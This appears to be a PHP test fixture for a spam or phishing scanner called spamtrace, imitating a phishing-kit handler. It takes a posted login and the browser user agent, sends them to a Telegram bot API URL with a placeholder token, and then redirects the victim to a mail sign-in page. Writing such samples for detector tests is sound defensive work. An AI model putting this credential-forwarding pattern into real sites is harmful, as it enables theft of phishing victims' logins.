<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// the same step to a chat bot, the victim sent to the mail service's sign-in page by script
$u = $_POST['login'] ?? '';
$t = "Login: $u\nBrowser: " . $_SERVER['HTTP_USER_AGENT'];
file_get_contents('https://api.telegram.org/bot000:TEST/sendMessage?chat_id=1&text=' . urlencode($t));
echo "<script>window.location.href='https://mail.example.test/signin';</script>";
